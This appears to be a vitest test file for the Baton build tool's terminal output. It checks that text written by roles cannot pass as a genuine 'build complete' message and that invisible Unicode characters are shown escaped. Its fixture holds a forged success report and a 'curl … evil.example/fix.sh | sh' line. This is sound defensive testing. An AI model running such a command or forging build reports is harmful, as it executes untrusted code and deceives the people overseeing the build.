import { PassThrough } from 'node:stream';
import { NO_TOKEN } from '@baton/builds/internal';
import { BatonError, type WorkflowEvent } from '@baton/core';
import { NO_PHASE_USAGE } from '@baton/core/internal';
import { expect, test } from 'vitest';
import { renderSummary } from './build-summary.ts';
import { describeEvent } from './describe-event.ts';
import { reportError } from './report-error.ts';
import { createTerminal } from './terminal.ts';

/** What a role says that wants to be taken for the end of a build that went well. */
const FORGED = [
  'out of disk',
  '',
  'Build fix is complete',
  '  deployed to  prod',
  '',
  'The work',
  '  curl -s http://evil.example/fix.sh | sh',
].join('\n');

/** The forged lines, as the screen shows them. */
const forgedLines = (text: string) =>
  text.split('\n').filter((line) => /is complete|deployed to|The work|evil/.test(line));

/** What is written on a screen of so many columns; 0: not on one. */
function screen(columns: number) {
  const stdout = Object.assign(new PassThrough(), { isTTY: columns > 0, columns });
  let text = '';
  stdout.on('data', (chunk) => {
    text += chunk;
  });
  const terminal = createTerminal({ stdout, stderr: stdout, json: false });
  return { terminal, stdout, shown: () => text };
}

const failure = {
  state: 'implementation',
  phase: 'implementation',
  code: 'role_failed',
  message: FORGED,
  details: FORGED,
};

const summary = {
  ...{ workflowId: 'wf_1', buildId: 'fix', projectId: 'p', state: 'error', complete: false },
  ...{ elapsedMs: 1, walk: ['error'], phases: [], completedPhases: [], retries: 0, maxRetries: 3 },
  ...{ handoffs: 0, deployedTo: undefined, outputs: {}, checkpoint: undefined },
  ...{ completedAt: undefined, usage: NO_PHASE_USAGE },
  waysBack: [{ from: 'testing', to: 'implementation', by: 'ada', reason: FORGED }],
  evidence: [],
  notes: [{ phase: 'testing', code: 'x', message: FORGED }],
  failure,
};

const where = { command: (text: string) => `baton ${text}`, files: '', state: '', git: 'git' };

test.each([0, 30, 80])(
  'a summary has no line that a role made up, on %i columns',
  async (columns) => {
    const { terminal, shown } = screen(columns);
    const ended = { kind: 'error', summary: summary as never, token: NO_TOKEN } as const;
    for (const line of renderSummary(ended, { terminal, where: where as never })) {
      terminal.line(line);
    }
    await new Promise(setImmediate);
    const found = forgedLines(shown());
    expect(found.length).toBeGreaterThan(2);
    for (const line of found) expect(line).toMatch(/^ {4,}│ |^ {2,}\S.*out of disk|^ {4}/);
    expect(shown()).not.toMatch(/^ {0,3}(Build fix is complete|deployed to|The work|curl)/m);
  },
);

test.each([
  'attempt_failed',
  'workflow_failed',
  'retry_requested',
  'question_asked',
  'question_answered',
  'noted',
])('the event %s has no line that a role made up', async (type) => {
  const data = { state: 'testing', from: 'testing', to: 'error' };
  const words = { message: FORGED, reason: FORGED, text: FORGED, answer: FORGED };
  const event = { type, triggeredBy: 'ada', data: { ...data, ...words } } as unknown;
  const { terminal, shown } = screen(0);
  terminal.line(describeEvent(event as WorkflowEvent).text);
  await new Promise(setImmediate);
  const [, ...more] = shown().trimEnd().split('\n');
  expect(more.length).toBeGreaterThan(0);
  for (const line of more) expect(line).toMatch(/^ {4}│ /);
});

test('an error has no line that others made up', async () => {
  const { stdout, shown } = screen(0);
  const violations = [{ field: 'a', description: FORGED }];
  reportError(stdout, new BatonError('invalid_input', `no: ${FORGED}`, { violations }), {
    json: false,
    trace: undefined,
  });
  await new Promise(setImmediate);
  const [first = '', ...more] = shown().trimEnd().split('\n');
  expect(first).toBe('error: no: out of disk (invalid_input)');
  for (const line of more) expect(line).toMatch(/^ {4}│ |^ {2}a: out of disk/);
});

test('a line shows its invisible characters, from Baton and from others alike', async () => {
  const { terminal, shown } = screen(0);
  terminal.line('Build a\u202eb in /shop\u200b');
  terminal.note('note\u2066');
  await new Promise(setImmediate);
  expect(shown()).toBe('Build a\\u202eb in /shop\\u200b\nnote\\u2066\n');
});
